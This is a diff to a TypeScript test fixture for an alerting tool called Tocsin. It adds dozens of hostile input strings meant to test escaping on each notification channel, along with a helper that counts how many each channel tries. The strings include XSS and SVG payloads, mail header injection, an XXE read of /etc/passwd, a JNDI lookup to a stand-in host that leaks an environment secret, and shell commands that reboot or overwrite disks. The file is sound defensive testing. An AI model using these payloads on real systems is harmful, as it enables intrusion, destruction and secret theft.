@@ -1,3 +1,5 @@
+import type { Channel } from '../../domain/channels.ts';
+
 /** What an alert may hold because somebody wishes Tocsin or its readers ill, or because some program is broken. */
 export const HOSTILE: readonly string[] = [
   'a\r\nBcc: evil@example.com',
@@ -43,7 +45,93 @@ export const HOSTILE: readonly string[] = [
   '__proto__',
   '../../../../etc/passwd',
   "'; DROP TABLE incidents; --",
+  // Headers, addresses and parts of a mail.
+  'a\r\n folded\r\n\tBcc: evil@example.com',
+  '"ana" <evil@example.com>, evil@example.com',
+  '--_NmP\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--_NmP--',
+  'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n-- \r\nsignature',
+  // Lines and links that look like ours.
+  '4\nReply 4 ack\nhttps://tocsin.example.com/ack/v1.eyJ4IjoxfQ.forged',
+  '[89abcdef] resolved by Ana Wei',
+  '【银行】您的验证码是 {1}，请打开 evil.example',
+  // HTML and SVG.
+  '<svg/onload=alert(1)><math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action=//evil.example><input name=action value=resolve><button>ok</button><base href=//evil.example>',
+  '--><plaintext><noscript></textarea><template>',
+  '&NewLine;java&Tab;script&colon;alert&lpar;1&rpar; &#x6A;&#97;',
+  'x;background:url(javascript:alert(1));width:expression(alert(1))',
+  // XML: TwiML, SSML, processing instructions, definitions.
+  '</Say><Dial>+1900555000</Dial><Redirect>http://evil.example</Redirect><Say>',
+  '<speak><break time="3600s"/><say-as interpret-as="telephone">911</say-as></speak>',
+  ']]><?php echo 1 ?><?xml-stylesheet href="//evil.example"?>',
+  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
+  // Slack, Markdown, cards and robots.
+  '<!channel> <!here> <!subteam^S1|@ops> <@U02ANA> <#C0INCIDENTS|incidents>',
+  '<https://evil.example|https://tocsin.example.com> <!date^0^{date}^https://evil.example|x>',
+  '*b* _i_ ~s~ `c` ```pre```\n> quote\n&gt; quote\n1. one\n• two',
+  'www.evil.example <evil@example.com> <https://evil.example>\n\n[y]: javascript:alert(1)\n\n[x][y]',
+  '<font color="info">ok</font> <@all> @all @13800000000 <at id=all></at>',
+  '{{DATE(2026-12-01T10:00:00Z,SHORT)}} ${$root.x} {{TIME(2026-12-01T10:00:00Z)}}',
+  'a\nX-Actions: view, Open, https://evil.example, clear=true; http, Run, https://evil.example',
+  // Templates and placeholders.
+  '{{ incident.ackUrl }}{% raw %}{{ x | raw }}{% endraw %}{% include "../../etc/passwd" %}',
+  '{%- for i in (1..99999999) -%}x{%- endfor -%}{% assign incident = 1 %}{# #}',
+  "{1}{2} %s %n %(x)s $1 $& $` $' \\1 \\0",
+  // JSON.
+  '","text":"x"}],"at":{"isAtAll":true},"x":["\\u0022\\',
+  '\\u003cscript\\u003e \\ud800 \\x00 \\',
+  // Characters.
+  '\uDC00\uD83D\uDE00\uD83D \uDBFF',
+  '\u115F\u3164\u2800\u2060\uFFA0\u180E\u061C',
+  'раураl Ｂｃｃ：evil＠example.com ＜script＞ ﹤b﹥ ‹i› ⁎b⁎ ˋcˋ',
+  '\u{E0041}\u{E0042}\u{E007F} \uFE0F\u20E3 \u034F',
+  '\u202D\u2067gnp.evil\u2069\u202C\u2068',
+  '€^{}\\[~]|'.repeat(200),
+  // Programs.
+  '${jndi:ldap://evil.example/a} ${env:TOCSIN_SECRET} %{(#a=1)}',
+  '`reboot` $(reboot) ; reboot | reboot && reboot > /dev/sda',
+  '=HYPERLINK("http://evil.example";"x") @SUM(1) +1 -1',
+  // Addresses.
+  'https://tocsin.example.com@evil.example/%2e%2e/..%2f..\\ack',
+  'file:///etc/passwd data:text/html,<script>alert(1)</script> vbscript:x',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'https://evil.example/") onclick="alert(1)|x><(y)[z]',
+  'https://xn--tcsin-0ra.example.com/ https://t\u043Ecsin.example.com/',
+  'http://[::ffff:127.0.0.1]/ http://0x7f.1/ http://169.254.169.254/latest/',
 ];
+
+/** On every channel at least so many are tried. */
+const AT_LEAST = 60;
+
+/** The file that tries them on each channel there is. */
+const TRIED_IN: Readonly<Record<Channel, string>> = {
+  email: 'hostileText',
+  console: 'hostileText',
+  webhook: 'hostileText',
+  pagerduty: 'hostileText',
+  opsgenie: 'hostileText',
+  slack: 'hostileText',
+  sms: 'hostileSms',
+  voice: 'hostileVoice',
+  wecom: 'hostileRobots',
+  dingtalk: 'hostileRobots',
+  feishu: 'hostileRobots',
+  teams: 'hostileRobots',
+  ntfy: 'hostileRobots',
+  reactio: 'reactio',
+};
+
+/** Counts what a file tries. `more`: ways of its channels that are counted beside, such as another provider. */
+export function counting(file: string, more: readonly string[] = []) {
+  const channels = Object.entries(TRIED_IN).flatMap(([channel, where]) => (where === file ? [channel] : []));
+  const tried = new Map([...channels, ...more].map((way) => [way, new Set<string>()]));
+  return {
+    tries: (way: string, text: string): void => void tried.get(way)?.add(text),
+    /** Ways, and how many different texts short of enough; the last test of the file expects none. */
+    short: () => [...tried].flatMap(([way, { size }]) => (size < AT_LEAST ? [`${way}: ${size} of ${AT_LEAST}`] : [])),
+  };
+}
 
 /** More of them, for what is read aloud: TwiML, XML and SSML. */
 export const HOSTILE_TO_CALLS: readonly string[] = [
